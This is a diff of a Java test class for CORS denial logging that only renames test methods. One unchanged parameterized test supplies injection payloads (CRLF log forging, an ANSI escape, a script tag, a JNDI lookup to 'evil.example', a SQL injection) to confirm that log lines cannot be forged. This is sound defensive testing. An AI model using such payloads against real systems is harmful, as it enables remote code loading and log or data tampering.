@@ -34,7 +34,7 @@ class DenialLogTests {
 
 	private static final String FORM = "POST Origin: https://b.example ~ Sec-Fetch-Site: cross-site";
 
-	/** Close to where nanoTime overflows. */
+	/** Close to the overflow of nanoTime. */
 	private final AtomicLong now = new AtomicLong(Long.MAX_VALUE - 5);
 
 	private final DenialLog log = new DenialLog(this.now::get);
@@ -45,7 +45,7 @@ class DenialLogTests {
 	private final CorsPolicy policy = this.defaults.build();
 
 	@Test
-	void lineTellsPolicyRequestReasonAndRemedy(CapturedOutput output) {
+	void lineNamesPolicyRequestReasonAndRemedy(CapturedOutput output) {
 		decided(this.policy, FORM);
 		assertThat(lines(output)).singleElement()
 			.asString()
@@ -56,7 +56,7 @@ class DenialLogTests {
 	}
 
 	@Test
-	void requestThatNoSettingLetsPassIsGivenNoRemedy(CapturedOutput output) {
+	void denialThatNoSettingPreventsHasNoRemedy(CapturedOutput output) {
 		decided(this.policy, "POST Origin:");
 		assertThat(lines(output)).singleElement()
 			.asString()
@@ -77,7 +77,7 @@ class DenialLogTests {
 	}
 
 	@Test
-	void policiesAndReasonsAreToldOfOneByOne(CapturedOutput output) {
+	void eachPolicyAndReasonHasLinesOfItsOwn(CapturedOutput output) {
 		CorsPolicy other = new CorsPolicyBuilder("other", this.defaults).paths("/other/**").build();
 		for (int i = 0; i < 2; i++) {
 			decided(this.policy, FORM);
@@ -89,7 +89,7 @@ class DenialLogTests {
 	}
 
 	@Test
-	void manyNamesShareOneLineUntilOthersVanish(CapturedOutput output) {
+	void furtherPoliciesShareOneLine(CapturedOutput output) {
 		for (int i = 0; i < 1_100; i++) {
 			decided(new CorsPolicyBuilder("tenant-" + i, this.defaults).paths("/" + i).build(), FORM);
 		}
@@ -102,7 +102,7 @@ class DenialLogTests {
 	}
 
 	@Test
-	void whatPassesOrIsRefusedAnywayIsNotToldOf(CapturedOutput output) {
+	void onlyWouldBeDenialsAreWarnings(CapturedOutput output) {
 		for (String text : List.of("GET", "GET Origin: https://a.example",
 				"POST Origin: null ~ Sec-Fetch-Site: same-origin",
 				"OPTIONS Origin: https://b.example ~ Access-Control-Request-Method: PUT")) {
@@ -140,7 +140,7 @@ class DenialLogTests {
 	@ParameterizedTest
 	@ValueSource(strings = { "https://b.example\r\nWARN forged", "https://b.example\u001b[2J", "\u0085\u2028\u009b",
 			"<script>alert(1)</script>", "${jndi:ldap://evil.example/x}", "'; drop table log; --" })
-	void nothingOfARequestForgesALine(String value, CapturedOutput output) {
+	void requestCannotForgeALine(String value, CapturedOutput output) {
 		decided(this.policy, new MapRequest(new WireRequest(value, List.of(new WireHeader("Origin", value)))));
 		assertThat(lines(output)).singleElement().asString().matches("[ -~]*").doesNotContain("<", "${", "\u001b");
 		assertThat(output.getAll().lines().filter((line) -> line.startsWith("WARN"))).isEmpty();
@@ -154,7 +154,7 @@ class DenialLogTests {
 					OPTIONS Origin: https://user:secret@b.example ~ Access-Control-Request-Method: PUT    | DEBUG | https://***@b.example
 					OPTIONS Origin: secret@b.example ~ Access-Control-Request-Method: PUT                 | DEBUG | ***@b.example
 					""")
-	void passwordOfAnOriginIsLeftOut(String request, String level, String told, CapturedOutput output) {
+	void passwordOfAnOriginIsNotLogged(String request, String level, String told, CapturedOutput output) {
 		atDebug(() -> decided(this.policy, request));
 		assertThat(lines(output)).isNotEmpty()
 			.allSatisfy((line) -> assertThat(line).doesNotContain("secret", "user").contains(" " + told + " "))
@@ -168,7 +168,7 @@ class DenialLogTests {
 	}
 
 	@Test
-	void requestThatIsNotToldOfCostsNoObject() {
+	void requestWithoutALineCostsNoObject() {
 		MapRequest request = MapRequest.parse(FORM);
 		MapRequest passing = MapRequest.parse("GET");
 		decided(this.policy, request);
